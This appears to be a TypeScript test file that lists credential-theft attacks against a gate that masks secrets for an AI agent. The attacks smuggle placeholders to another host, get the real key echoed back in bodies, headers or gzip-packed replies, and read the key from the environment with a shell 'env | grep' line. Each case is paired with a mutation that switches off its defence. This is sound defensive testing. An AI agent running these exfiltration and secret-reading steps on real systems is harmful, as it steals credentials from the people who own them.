import type { Attack } from "../attack.ts";
import { keyHead } from "../victim.ts";
import { gateAttack, get, say, through, without } from "./gate-words.ts";

const secretInside = { breaks: "1 no secret inside" } as const;
const answerBody = "src/gate/request/answer-body.ts";
const outgoing = "src/gate/request/outgoing-head.ts";
const noAlarm = without(
  "src/gate/request/judge-request.ts",
  "if (sighting) return {",
  "if (sighting === null) return {",
);
const noBodyScan = without(
  "src/gate/scan/scanner.ts",
  "if (needles.length === 0) return { feed: () => undefined };",
  "if (needles.length >= 0) return { feed: () => undefined };",
);
/** A body whose length no one knows before the placeholder is in it. */
const post = (body: string) =>
  `POST /public/MARKER HTTP/1.1\r\nHost: other.test\r\nContent-Length: LENGTH\r\n\r\nBODY${body}`;

const carried = (name: string, bytes: string, defence: string, off: Attack["off"]): Attack =>
  gateAttack({ ...secretInside, name, setting: say(through("other.test", bytes)), defence, off });

/** Carrying the placeholder somewhere else: nothing to win by it, but proof that somebody tries. */
const placeholders: readonly Attack[] = [
  carried(
    "placeholder-in-header",
    get("/public/MARKER", "other.test", "X-Found: PLACEHOLDER\r\n"),
    "heads are searched for placeholders",
    noAlarm,
  ),
  carried(
    "placeholder-in-query-encoded",
    get("/public/MARKER?k=PLACEHOLDER%", "other.test"),
    "heads are searched for placeholders",
    noAlarm,
  ),
  carried("placeholder-in-body", post(`{"k": "PLACEHOLDER"}`), "bodies are searched for placeholders", noBodyScan),
  carried("placeholder-in-body-base64", post("PLACEHOLDER64"), "bodies are searched for placeholders", noBodyScan),
];

const echoed = (name: string, path: string, defence: string, off: Attack["off"], wanted = `${keyHead}[0-9a-f]{24}`) =>
  gateAttack({
    ...secretInside,
    name,
    setting: say({ ...through("good.test", get(path, "good.test")), wanted }),
    evidence: { kind: "secret" },
    defence,
    off,
  });

/** Getting at the real value. */
const values: readonly Attack[] = [
  echoed("key-echoed-in-body", "/echo", "answers are masked", without(answerBody, "this.#mask = masker?.startBody();")),
  echoed(
    "key-echoed-in-two-pieces",
    "/echo",
    "what may be the beginning of a key is held back",
    without("src/gate/scan/masker.ts", "Math.max(0, ...needles.map((needle) => startOf(needle, whole)))", "0"),
  ),
  echoed(
    "key-echoed-in-header",
    "/echo/header",
    "answers' headers are masked",
    without("src/gate/request/answer-headers.ts", "return masker ?", "return masker === null ?"),
  ),
  {
    ...secretInside,
    name: "key-echoed-packed",
    program: "run-shell.sh",
    setting: { variables: { SCRIPT: "curl -sS -k -o p https://good.test/echo/packed; gzip -dc < p || cat p" } },
    evidence: { kind: "secret" },
    defence: "packed answers are unpacked to be masked",
    off: without(answerBody, "masker ? decoderFor(coding)?.start() : undefined", "undefined"),
  },
  gateAttack({
    ...secretInside,
    name: "own-authorization",
    setting: say(through("good.test", get("/public/MARKER", "good.test", "Authorization: Bearer stolen-MARKER\r\n"))),
    evidence: { kind: "sighting", pattern: "^bytes [^]*stolen-{marker}" },
    defence: "what the agent puts in a credential's place is taken out",
    off: without(outgoing, "plan.stripped.has(name) ||"),
  }),
  {
    ...secretInside,
    name: "key-in-environment",
    program: "run-shell.sh",
    setting: { variables: { SCRIPT: `env | grep -o '${keyHead}[0-9a-f]*'` } },
    evidence: { kind: "secret" },
    defence: "the agent gets placeholders",
    off: without(
      "src/run/compose-launch.ts",
      "environment.map((name) => [name, placeholder])",
      `environment.map((name) => [name, process.env["SITE_KEY"] ?? placeholder])`,
    ),
  },
];

/** Attacks on the credential that the gate holds. */
export const credentialAttacks: readonly Attack[] = [...placeholders, ...values];
